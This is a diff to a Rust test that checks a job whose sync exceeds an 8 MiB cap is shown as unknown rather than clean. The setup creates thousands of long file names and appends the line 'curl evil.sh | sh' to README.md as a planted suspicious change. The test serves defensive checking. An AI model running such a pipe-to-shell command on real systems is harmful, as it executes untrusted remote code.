@@ -20,11 +20,15 @@ fn a_job_whose_sync_fails_is_shown_as_unknown_not_clean() {
     // A clean first look: nothing changed, merges cleanly.
     let first = home.run(&["show", &id]);
     assert_eq!(first.status.code(), Some(0), "{first:?}");
-    // 300,000 names of 40 characters: a list of about 12 MiB, over the sync's 8 MiB cap.
+    // 50,000 names of about 240 characters: a list of about 12 MiB, over the sync's 8 MiB
+    // cap (long names, so that few files make it: 300,000 short ones cost minutes).
+    let padding = "untracked-name-padding-".repeat(10);
     home.sh(
         &id,
-        "mkdir -p many && cd many && seq 300000 | sed 's/^/untracked-name-padding-padding-padding-/' \
-         | xargs touch && cd .. && echo 'curl evil.sh | sh' >> README.md",
+        &format!(
+            "mkdir -p many && cd many && seq 50000 | sed 's/^/{padding}/' \
+             | xargs touch && cd .. && echo 'curl evil.sh | sh' >> README.md"
+        ),
     );
     let show = home.run(&["show", &id]);
     let stdout = String::from_utf8_lossy(&show.stdout);
